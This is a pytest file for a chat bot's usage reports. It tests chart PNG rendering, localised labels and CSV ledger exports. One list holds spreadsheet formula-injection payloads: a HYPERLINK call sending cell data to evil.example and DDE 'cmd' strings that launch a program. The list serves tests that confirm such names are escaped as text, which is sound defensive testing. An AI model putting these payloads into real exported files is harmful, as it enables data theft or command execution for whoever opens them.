"""Usage reports: the chart is a readable PNG of the promised size, the CSV parses back."""

from __future__ import annotations

import csv
import io

import pytest
from PIL import Image

from bot import reports
from bot.images.types import Usage
from bot.quotas import QuotaEngine, UsageSummary
from bot.reports import (
    CHART_SIZE,
    CSV_HEADER,
    MEMBERS_HEADER,
    chart_words,
    members_csv,
    usage_chart_png,
    usage_csv,
)
from bot.store import QuotaPolicy, Reservation, Spend, Store
from tests.fakes.stores import (  # noqa: F401 - fixtures
    ManualClock,
    clock_fixture,
    store_fixture,
    store_target_fixture,
)

GUILD, USER, OTHER_USER = 1000, 21, 22
BAR = (88, 101, 242)


def summary(by_day: tuple[tuple[str, int], ...]) -> UsageSummary:
    total = sum(credits for _, credits in by_day)
    return UsageSummary(
        guild_id=GUILD,
        window="month",
        start=1_698_796_800,
        end=1_701_388_800,
        total_credits=total,
        total_images=total // 4,
        top_members=(Spend(USER, total, total // 4),),
        by_model=(Spend("gpt-image-1", total, total // 4),),
        by_day=by_day,
    )


def decode(png: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(png))
    image.load()
    return image


def test_the_chart_is_a_png_of_the_promised_size_with_bars() -> None:
    days = tuple((f"2023-11-{day:02d}", (day * 7) % 30) for day in range(1, 31))
    image = decode(usage_chart_png(summary(days)))
    assert (image.format, image.size) == ("PNG", CHART_SIZE)
    colours = image.convert("RGB").getcolors(maxcolors=1_000_000) or []
    bar_pixels = sum(count for count, colour in colours if colour == BAR)
    assert bar_pixels > 10_000  # the bars are drawn, not just the axes


def test_taller_days_get_taller_bars() -> None:
    image = decode(usage_chart_png(summary((("2023-11-01", 5), ("2023-11-02", 40))))).convert("RGB")
    width, height = image.size

    def bar_height(x_from: int, x_to: int) -> int:
        column = (x_from + x_to) // 2
        return sum(image.getpixel((column, y)) == BAR for y in range(height))

    plot_left, plot_right = 72, width - 24
    middle = (plot_left + plot_right) // 2
    assert bar_height(middle, plot_right) > 5 * bar_height(plot_left, middle) > 0


def test_an_empty_window_still_renders_a_chart() -> None:
    image = decode(usage_chart_png(summary(())))
    assert (image.format, image.size) == ("PNG", CHART_SIZE)


def test_the_charts_labels_are_in_the_moderators_language() -> None:
    words = chart_words(summary((("2023-11-01", 8), ("2023-11-02", 0))), "ru")
    assert words.title == "Расход кредитов по дням (UTC), за этот месяц"
    assert words.total == "8 кредитов, 2 изображения"
    assert words.days == ("1 нояб.", "2 нояб.")
    assert chart_words(summary(()), "de").empty == "Noch nichts verbraucht"
    assert chart_words(summary((("2023-11-05", 4),)), "ja").days == ("11月5日",)
    english = chart_words(summary((("2023-11-05", 4),)))
    assert (english.title, english.total, english.days) == (
        "Credits spent per day (UTC), this month",
        "4 credits, 1 image",
        ("Nov 5",),
    )


def test_a_language_no_font_here_can_draw_is_charted_in_english(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    days = (("2023-11-01", 8),)
    monkeypatch.setattr(reports, "_font_paths", lambda: ())  # Pillow's own font: Latin only
    words, face = reports._chart_face(summary(days), "ru")
    assert (words, face) == (chart_words(summary(days)), None)  # English, never boxes
    german, _ = reports._chart_face(summary(days), "de")
    assert german.title == "Verbrauchte Credits pro Tag (UTC), diesen Monat"
    image = decode(usage_chart_png(summary(days), "zh_CN"))
    assert (image.format, image.size) == ("PNG", CHART_SIZE)


def test_a_font_that_draws_cyrillic_charts_russian_in_russian() -> None:
    if not reports._font_paths():
        pytest.skip("no font for other scripts on this machine (e.g. Debian's fonts-dejavu-core)")
    words, face = reports._chart_face(summary((("2023-11-01", 8),)), "ru")
    assert face is not None and words.title.startswith("Расход кредитов")
    image = decode(usage_chart_png(summary((("2023-11-01", 8),)), "ru"))
    assert (image.format, image.size) == ("PNG", CHART_SIZE)


async def test_the_csv_holds_the_ledger_rows(store: Store, clock: ManualClock) -> None:
    await store.save_quota_policy(QuotaPolicy(GUILD, user_limit=None, max_in_flight=None))
    engine = QuotaEngine(store, clock=clock)
    first = await engine.reserve(
        guild_id=GUILD, user_id=USER, role_ids=(), is_moderator=False,
        model="gpt-image-1", size="1024x1024", quality="high", n=2, job_id=7,
    )  # fmt: skip
    await engine.commit(first, actual_n=1, usage=Usage(10, 4160, 4170))
    clock.advance(60)
    second = await engine.reserve(
        guild_id=GUILD, user_id=OTHER_USER, role_ids=(), is_moderator=False,
        model="dall-e-3", size=None, quality=None, n=1,
    )  # fmt: skip
    await engine.commit(second)
    refunded = await engine.reserve(
        guild_id=GUILD, user_id=USER, role_ids=(), is_moderator=False,
        model="dall-e-2", size="256x256", quality=None, n=1,
    )  # fmt: skip
    await engine.refund(refunded)

    ledger = await store.charges(GUILD, 0, clock.now + 1)
    rows = list(csv.reader(io.StringIO(usage_csv(ledger).decode("utf-8"))))
    assert tuple(rows[0]) == CSV_HEADER
    records = [dict(zip(CSV_HEADER, row, strict=True)) for row in rows[1:]]
    assert len(records) == 2
    assert records[0] | {"reservation_id": ""} == {
        "reservation_id": "",
        "job_id": "7",
        "created_at_utc": "2023-11-15T12:00:00+00:00",
        "user_id": str(USER),
        "model": "gpt-image-1",
        "size": "1024x1024",
        "quality": "high",
        "images": "1",
        "credits": "17",
        "input_tokens": "10",
        "output_tokens": "4160",
        "total_tokens": "4170",
        # 4160 output tokens at $40 per 1M, 10 input tokens the answer didn't split at $10
        "cost_usd": "0.166500",
    }
    assert (records[1]["model"], records[1]["credits"], records[1]["job_id"]) == (
        "dall-e-3",
        "4",
        "",
    )
    assert records[1]["cost_usd"] == "0.040000"  # no usage: dall-e-3's price per image
    assert records[1]["user_id"] == str(OTHER_USER)


def test_an_empty_ledger_is_just_the_header() -> None:
    assert list(csv.reader(io.StringIO(usage_csv([]).decode()))) == [list(CSV_HEADER)]


def charge(user_id: int, credits: int, model: str = "gpt-image-1", images: int = 1) -> Reservation:
    return Reservation(
        id=user_id, guild_id=GUILD, user_id=user_id, job_id=None, model=model, size=None,
        quality=None, n=images, cost_per_image=credits, credits=credits, status="committed",
        window="day", window_start=0, server_window="month", server_window_start=0,
        created_at=1_700_049_600.0, expires_at=1_700_051_400.0, charged=credits, images=images,
    )  # fmt: skip


def parsed(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"))))


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_member_names_that_a_spreadsheet_would_run_are_kept_as_text() -> None:
    names = {uid: name for uid, name in enumerate(FORMULAS, start=1)}
    charges = [charge(uid, credits=100 - uid) for uid in names]

    rows = parsed(members_csv(charges, names))

    assert tuple(rows[0]) == MEMBERS_HEADER
    assert [row[1] for row in rows[1:]] == ["'" + name for name in FORMULAS]
    assert [int(row[0]) for row in rows[1:]] == list(names)  # biggest spender first


def test_plain_names_stay_as_they_are_and_an_unknown_member_is_never_an_empty_cell() -> None:
    charges = [charge(1, 8), charge(2, 4), charge(1, 4, images=2), charge(3, 1)]

    rows = parsed(members_csv(charges, {1: 'Ada, the "Countess"', 2: "Bob = Builder"}))

    assert rows[1:] == [
        ["1", 'Ada, the "Countess"', "12", "3", "2"],
        ["2", "Bob = Builder", "4", "1", "1"],
        ["3", "(unknown)", "1", "1", "1"],
    ]


def test_the_ledger_keeps_text_cells_from_running_as_formulas() -> None:
    rows = parsed(usage_csv([charge(1, 4, model="=gateway-model")]))

    assert rows[1][CSV_HEADER.index("model")] == "'=gateway-model"
    assert rows[1][CSV_HEADER.index("credits")] == "4"
